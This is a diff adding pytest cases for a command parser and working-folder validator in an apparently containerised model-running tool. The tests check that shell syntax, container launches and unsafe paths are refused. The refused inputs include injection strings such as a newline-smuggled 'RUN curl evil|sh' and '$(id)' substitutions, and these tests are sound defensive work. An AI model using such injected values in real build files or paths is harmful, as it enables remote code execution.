@@ -65,6 +65,28 @@ def test_what_needs_a_shell_or_is_no_command_is_refused(line: str) -> None:
     assert "\x1b" not in caught.value.message
 
 
+@pytest.mark.parametrize("wrong", ["{inputs}", "{{input}}", "{{ cookiecutter.x }}", "{in}"])
+def test_a_wrong_placeholder_is_told_the_right_ones(wrong: str) -> None:
+    with pytest.raises(ItemInvalid) as caught:
+        parse_command(f"python run.py --in {wrong} --out {{output}}")
+    assert f"{wrong} is no placeholder, in python run.py --in {wrong}" in caught.value.message
+    assert "{input}, {output}, {model}" in caught.value.hint
+
+
+def test_the_message_shows_the_command() -> None:
+    with pytest.raises(ItemInvalid, match=r"a shell for `;` at character 7, in python; id"):
+        parse_command("python; id")
+
+
+@pytest.mark.parametrize(
+    "program", ["docker run --rm x", "nvidia-docker run x", "/usr/bin/singularity exec x.sif python"]
+)
+def test_a_command_that_starts_a_container_is_not_one_for_its_inside(program: str) -> None:
+    with pytest.raises(ItemInvalid, match="starts a container, and it is run inside of one") as caught:
+        parse_command(program)
+    assert "python predict.py {input} {output}" in caught.value.hint
+
+
 def test_with_consent_a_shell_line_stays_one_line_and_is_a_decision() -> None:
     line = "python run.py {input} > {output}/log && echo done"
     made = plan(item(framework="PyTorch", run=line), allow_shell=True)
@@ -174,6 +196,8 @@ def test_weights_named_by_role_must_be_there() -> None:
         ("/home//user/./x/", "/home/user/x"),
         ("", "/workspace"),
         ("/w", "/w"),
+        ("/usr/src/app", "/usr/src/app"),
+        ("/opt/ml/model", "/opt/ml/model"),
     ],
 )
 def test_working_folders(declared: str | None, folder: str) -> None:
@@ -183,7 +207,8 @@ def test_working_folders(declared: str | None, folder: str) -> None:
 @pytest.mark.parametrize(
     "declared",
     ["/w\nRUN curl evil|sh", "/w\\", "/w/$(id)", "`id`", "${HOME}", "workspace", "/", "//", "/proc", "/etc/x", "/dev",
-     "/./etc", "/opt/dlm", "/usr", "/dlm/in", "/w/../etc", "/w ", "/w\n", "/w\x00", "/" + "a" * 300, "/é", "/tmp/x"],
+     "/./etc", "/opt/dlm", "/usr", "/dlm/in", "/w/../etc", "/w ", "/w\n", "/w\x00", "/" + "a" * 300, "/é", "/tmp/x",
+     "/opt/dlm/model", "/opt", "/usr/src", "/usr/local/bin", "/usr/lib"],
 )  # fmt: skip
 def test_working_folders_that_are_refused(declared: str) -> None:
     with pytest.raises(ItemInvalid) as caught:
